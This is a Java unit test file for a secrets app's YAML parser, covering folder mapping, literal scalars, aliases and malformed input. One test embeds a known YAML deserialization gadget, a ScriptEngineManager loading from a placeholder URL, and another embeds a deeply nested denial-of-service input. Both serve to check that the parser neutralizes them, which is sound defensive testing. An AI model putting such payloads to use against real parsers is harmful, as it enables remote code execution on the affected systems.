package app.certkeep.keyvalue.format;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import app.certkeep.crypto.SecretBytes;
import app.certkeep.failure.InvalidInputException;

import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

class YamlFormatTest {
    @Test
    void mappings_are_folders_and_scalars_are_taken_as_they_are_written() {
        FileContent content =
                Formats.read(
                        EntryFormat.YAML,
                        """
                        # comment
                        shop:
                          db: {user: ada, port: 05432}
                          on: yes
                          text: |
                            one
                            two
                          hosts:
                            - a
                            - name: b
                          none: null
                        quoted: "null"
                        """);

        assertThat(Formats.values(content))
                .containsExactly(
                        Map.entry("shop/db/user", "ada"),
                        Map.entry("shop/db/port", "05432"),
                        Map.entry("shop/on", "yes"),
                        Map.entry("shop/text", "one\ntwo\n"),
                        Map.entry("shop/hosts/1", "a"),
                        Map.entry("shop/hosts/2/name", "b"),
                        Map.entry("quoted", "null"));
        assertThat(content.unreadable()).containsExactly(11);
        assertThat(content.entries().getFirst().line()).isEqualTo(3);
    }

    @Test
    void tags_make_nothing_and_aliases_are_unreadable() {
        FileContent content =
                Formats.read(
                        EntryFormat.YAML,
                        """
                        a: !!javax.script.ScriptEngineManager [!!java.net.URL ["http://x.example"]]
                        b: &b [1, 2]
                        c: *b
                        d: 4
                        """);

        assertThat(Formats.values(content))
                .containsExactly(
                        Map.entry("a/1/1", "http://x.example"),
                        Map.entry("b/1", "1"),
                        Map.entry("b/2", "2"),
                        Map.entry("d", "4"));
        assertThat(content.unreadable()).containsExactly(3);
    }

    @Test
    void what_is_no_mapping_gives_nothing_but_its_line() {
        assertThat(Formats.read(EntryFormat.YAML, "").unreadable()).containsExactly(1);
        assertThat(Formats.read(EntryFormat.YAML, "text").unreadable()).containsExactly(1);
        FileContent list = Formats.read(EntryFormat.YAML, "- a\n- b\n");
        assertThat(list.entries()).isEmpty();
        assertThat(list.unreadable()).containsExactly(1);
        FileContent broken = Formats.read(EntryFormat.YAML, "a: 1\nb: [2\n");
        assertThat(broken.entries()).isEmpty();
        assertThat(broken.unreadable()).hasSize(1);
        FileContent two = Formats.read(EntryFormat.YAML, "a: 1\n---\nb: 2\n");
        assertThat(Formats.values(two)).containsExactly(Map.entry("a", "1"));
        assertThat(two.unreadable()).containsExactly(2);
    }

    @Test
    void what_is_nested_deeper_than_any_key_is_refused() {
        assertThatThrownBy(() -> Formats.read(EntryFormat.YAML, "a: " + "[".repeat(5000)))
                .isInstanceOf(InvalidInputException.class);
    }

    @Test
    void notes_stand_above_as_comments() {
        try (SecretBytes file =
                EntryFormat.YAML.write(
                        List.of(new FileEntry("a/b", Formats.bytes("x\n\u007f"), "n\nm", 0)))) {
            assertThat(Formats.text(file)).isEqualTo("# n\n# m\n\"a/b\": \"x\\n\\u007f\"\n");
        }
    }
}
